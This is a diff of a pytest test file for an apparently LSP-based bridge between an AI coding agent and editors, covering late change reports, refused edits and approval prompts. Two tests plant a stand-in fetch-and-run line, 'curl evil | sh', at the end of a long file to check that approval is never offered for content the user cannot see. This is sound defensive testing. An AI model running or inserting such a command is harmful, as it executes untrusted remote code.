@@ -15,8 +15,8 @@ import pytest
 from pygls.exceptions import JsonRpcException
 
 from ..waiting import wait_until
-from .calls import bash, edit
-from .conftest import Editor, script
+from .calls import bash, edit, one_call_a_turn
+from .conftest import Editor
 
 APP = "def greet(name):\n    return 'hello ' + name\n"
 HI = APP.replace("'hello '", "'hi '")
@@ -52,11 +52,7 @@ async def test_a_late_did_change_is_no_failure_and_the_edit_is_sent_once(
 ) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("'hello '", "'hi '")]},
-            {"toolCalls": [read()]},
-            {"toolCalls": [edit("'hi '", "'hey '")]},
-        ),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), read(), edit("'hi '", "'hey '")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.report, editor.report_delay = "late", 3.0  # Eglot's idle timer, vim-lsp
@@ -78,12 +74,7 @@ async def test_an_editor_that_never_reports_keeps_the_approved_text(
 ) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("'hello '", "'hi '")]},
-            {"toolCalls": [read()]},
-            {"toolCalls": [edit("'hi '", "'hey '")]},
-            {"toolCalls": [read()]},
-        ),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), read(), edit("'hi '", "'hey '"), read()),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.report = "never"  # Emacs blocked in a synchronous command until the run ends
@@ -104,7 +95,7 @@ async def test_an_editor_that_never_reports_keeps_the_approved_text(
 async def test_a_duplicate_late_did_change_changes_nothing(editor: Editor, workspace: Path) -> None:
     await editor.open_session(
         workspace,
-        script=script({"toolCalls": [edit("'hello '", "'hi '")]}, {"toolCalls": [bash("true")]}),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), bash("true")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.report, editor.report_delay, editor.report_copies = "late", 2.5, 2
@@ -118,9 +109,7 @@ async def test_a_duplicate_late_did_change_changes_nothing(editor: Editor, works
 async def test_a_version_skip_is_no_failure(editor: Editor, workspace: Path) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("'hello '", "'hi '")]}, {"toolCalls": [edit("'hi '", "'hey '")]}
-        ),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), edit("'hi '", "'hey '")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     # Neovim's version is its changedtick: one applied edit may move it by more than one.
@@ -137,11 +126,7 @@ async def test_an_edit_applied_over_unreported_typing_is_told_to_the_model(
 ) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("'hello '", "'hi '")]},
-            {"toolCalls": [bash("echo checked")]},
-            {"toolCalls": [read()]},
-        ),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), bash("echo checked"), read()),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     # vim-lsp: no version check, and its didChange comes seconds later.
@@ -173,10 +158,7 @@ async def test_an_edit_applied_over_unreported_typing_is_told_to_the_model(
 async def test_an_edit_applied_twice_is_told_to_the_model(editor: Editor, workspace: Path) -> None:
     await editor.open_session(
         workspace,
-        script=script(
-            {"toolCalls": [edit("def greet", "import os\n\ndef greet")]},
-            {"toolCalls": [bash("true")]},
-        ),
+        script=one_call_a_turn(edit("def greet", "import os\n\ndef greet"), bash("true")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.apply_times, editor.check_versions = 2, False  # vim-lsp inserting the line twice
@@ -194,9 +176,7 @@ async def test_a_client_that_cannot_create_files_gets_them_created_on_disk(
     editor: Editor, workspace: Path
 ) -> None:
     call = {"name": "write_file", "arguments": {"path": "pkg/new.py", "content": "x = 1\n"}}
-    await editor.open_session(
-        workspace, resource_operations=False, script=script({"toolCalls": [call]})
-    )
+    await editor.open_session(workspace, resource_operations=False, script=one_call_a_turn(call))
     editor.can_create = False  # Eglot 1.9: a CreateFile is ignored
     result = await editor.run(prompt="go", runId="r1")
     new = workspace / "pkg" / "new.py"
@@ -222,7 +202,7 @@ async def stderr_until(capsys: pytest.CaptureFixture[str], needle: str) -> str:
 async def test_an_error_answer_is_a_refused_edit_without_a_traceback(
     editor: Editor, workspace: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    await editor.open_session(workspace, script=script({"toolCalls": [edit("'hello '", "'hi '")]}))
+    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
 
     def refuse_like_eglot() -> Any:
         raise JsonRpcException("Edits on `app.py' require version 1, you have 2", code=32603)
@@ -241,7 +221,7 @@ async def test_an_error_answer_is_a_refused_edit_without_a_traceback(
 async def test_a_refusal_after_the_user_typed_is_rebased_once(
     editor: Editor, workspace: Path
 ) -> None:
-    await editor.open_session(workspace, script=script({"toolCalls": [edit("'hello '", "'hi '")]}))
+    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     refusals = 0
 
@@ -267,7 +247,7 @@ async def test_a_refusal_after_the_user_typed_is_rebased_once(
 
 @pytest.mark.parametrize("answer", [{"applied": "false"}, {}, None, "yes", {"applied": 1}, [True]])
 async def test_only_a_boolean_true_is_applied(editor: Editor, workspace: Path, answer: Any) -> None:
-    await editor.open_session(workspace, script=script({"toolCalls": [edit("'hello '", "'hi '")]}))
+    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
     editor.apply_answer = lambda: answer
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
     assert result["outcome"] == "done"  # answered at once, not after the timeout
@@ -281,7 +261,7 @@ async def test_a_message_prompt_answer_that_is_not_an_action_denies(
     editor: Editor, workspace: Path, answer: Any
 ) -> None:
     await editor.open_session(
-        workspace, approvals=False, script=script({"toolCalls": [edit("'hello '", "'hi '")]})
+        workspace, approvals=False, script=one_call_a_turn(edit("'hello '", "'hi '"))
     )
     editor.message_answer = lambda: answer
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
@@ -295,7 +275,7 @@ async def test_a_message_prompt_answer_that_is_not_an_action_denies(
 async def test_an_approve_answer_that_is_not_a_decision_denies(
     editor: Editor, workspace: Path, answer: Any
 ) -> None:
-    await editor.open_session(workspace, script=script({"toolCalls": [edit("'hello '", "'hi '")]}))
+    await editor.open_session(workspace, script=one_call_a_turn(edit("'hello '", "'hi '")))
     editor.approve = lambda params: answer
     result = await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
     assert result["outcome"] == "done" and editor.applied == []
@@ -310,7 +290,7 @@ async def test_a_save_answer_that_is_not_a_list_saves_nothing(
     await editor.open_session(
         workspace,
         save_documents=True,
-        script=script({"toolCalls": [edit("'hello '", "'hi '")]}, {"toolCalls": [bash("true")]}),
+        script=one_call_a_turn(edit("'hello '", "'hi '"), bash("true")),
     )
     uri = editor.open_document(workspace / "src" / "app.py", APP)
     editor.save_answer = lambda: answer
@@ -328,7 +308,7 @@ async def test_a_message_prompt_never_offers_allow_for_what_it_cannot_show(
     content = "".join(f"line {n}\n" for n in range(400)) + "PAYLOAD = 'curl evil | sh'\n"
     call = {"name": "write_file", "arguments": {"path": "big.py", "content": content}}
     await editor.open_session(
-        workspace, approvals=False, show_document=False, script=script({"toolCalls": [call]})
+        workspace, approvals=False, show_document=False, script=one_call_a_turn(call)
     )
     editor.message_choice = "Allow"  # whatever the user picks, Allow is not among the actions
     await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
@@ -343,7 +323,7 @@ async def test_a_message_prompt_never_offers_allow_for_what_it_cannot_show(
 async def test_a_message_prompt_shows_a_short_change_whole(editor: Editor, workspace: Path) -> None:
     content = "".join(f"line {n}\n" for n in range(30)) + "PAYLOAD = 1\n"
     call = {"name": "write_file", "arguments": {"path": "small.py", "content": content}}
-    await editor.open_session(workspace, approvals=False, script=script({"toolCalls": [call]}))
+    await editor.open_session(workspace, approvals=False, script=one_call_a_turn(call))
     await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
     [request] = editor.message_requests
     assert [a.title for a in request.actions] == ["Allow", "Allow always", "Deny"]
@@ -356,7 +336,7 @@ async def test_a_long_change_is_opened_in_the_editor_before_allow_is_offered(
 ) -> None:
     content = "".join(f"line {n}\n" for n in range(400)) + "PAYLOAD = 'curl evil | sh'\n"
     call = {"name": "write_file", "arguments": {"path": "big.py", "content": content}}
-    await editor.open_session(workspace, approvals=False, script=script({"toolCalls": [call]}))
+    await editor.open_session(workspace, approvals=False, script=one_call_a_turn(call))
     shown: list[str] = []
 
     def allow_after_reading_it() -> Any:
